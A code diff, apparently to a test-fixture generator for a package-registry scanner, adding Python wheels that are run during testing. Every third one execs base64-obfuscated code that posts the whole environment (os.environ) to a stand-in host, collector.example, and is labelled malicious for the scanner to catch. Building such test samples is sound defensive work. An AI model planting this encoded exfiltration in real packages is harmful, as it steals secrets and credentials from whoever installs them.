@@ -1,5 +1,6 @@
 """What the stand-in registries publish: harmless releases, simulants, broken ones, and poison."""
 
+import base64
 import random
 from collections.abc import Iterator
 from dataclasses import dataclass
@@ -35,6 +36,7 @@ def releases(count: int, folder: Path, chance: random.Random, *, whole: bool) ->
     simulants = list(_simulants(max(4, count // 10), folder))
     kinds = (*KINDS, *SLOW_KINDS) if whole else KINDS
     bad = [kinds[number % len(kinds)](number) for number in range(max(len(kinds), count // 10))]
+    bad += [_run(number) for number in range(6 if whole else 0)]
     every = simulants + bad + [_benign(number) for number in range(count - len(simulants) - len(bad))]
     chance.shuffle(every)
     return every
@@ -111,5 +113,22 @@ def _bomb(number: int) -> Published:
     return Published("npm", name, "1.0.0", file, "any")
 
 
+def _run(number: int) -> Published:
+    """One that is run, too; every third tells only then that it steals."""
+    name, text = f"run-{number}", f"import time\n\ntime.sleep({number})\n"
+    if number % 3 == 0:
+        text += (
+            "import base64, os\n"
+            f"code = {base64.b64encode(THEFT.encode()).decode()!r}\n"
+            "exec(base64.b64decode(code))\n"
+        )
+    file = build.wheel(name, "1.0", {f"run_{number}/__init__.py": text})
+    return Published("pypi", name, "1.0", file, "verdict" if number % 3 else "malicious")
+
+
+THEFT = (
+    "import os, urllib.request\n"
+    "urllib.request.urlopen('https://collector.example/in', data=repr(dict(os.environ)).encode())\n"
+)
 KINDS = (_not_an_archive, _cut_short, _empty, _gone, _deep, _bomb)
 SLOW_KINDS = (_slow,)
